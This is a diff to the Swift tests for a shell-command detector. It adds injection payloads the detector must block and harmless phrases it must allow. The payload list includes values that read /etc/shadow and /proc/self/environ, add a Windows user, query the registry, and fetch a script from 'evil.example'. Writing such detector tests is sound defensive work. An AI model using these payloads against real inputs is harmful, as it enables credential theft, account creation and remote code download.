@@ -64,6 +64,8 @@ struct ShellDetectorTests {
         ";flock -x /tmp/l whoami", ";iwr http://evil.example/a.ps1", "|COMM /etc/passwd /etc/group", ";date --file /etc/shadow",
         "; top -b", "cpulimit -l 50 -f id", "env --version", "BusyBox --list", "npm install evil-pkg", "gem install x",
         "cat /var/log/auth.log", "tail /proc/self/environ", "shutdown\n", "chef-client", "bin/visudo",
+        ";df -h", "|SHA256SUM /etc/shadow", "a;sleep 5", "x&&sleep 10", "&net user x p /add", "; gci env:",
+        "& wmic process list", "| reg query HKLM\\Software", ";systeminfo", "1|ver", "x|id", "a|id|base64",
     ])
     func commandLines(_ payload: String) {
         #expect(blocksEverywhere(payload).isEmpty, "\(payload) -> \(rules(inValue: payload)) missed in \(blocksEverywhere(payload))")
@@ -94,6 +96,8 @@ struct ShellDetectorTests {
         "mysql/mariadb", "TCP/IP", "I/O", "and/or", "read-only", "e.g. (fig. 1)", "${}", "costs $((", "Mr. Cat; Mrs. Who",
         "data:image/png;base64,iVBORw0KGgo=", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "user@example.com",
         "# Heading\n\nSome *markdown* with `code` and [a link](https://example.com).",
+        "name|id|email", "date|sort|users", "the best; top 10", "net income", "type 2 diabetes", "sleep 8 hours",
+        "free shipping; sort by price",
     ])
     func benign(_ text: String) {
         #expect(passesEverywhere(text).isEmpty, "\(text) -> \(rules(inValue: text)) blocked in \(passesEverywhere(text))")
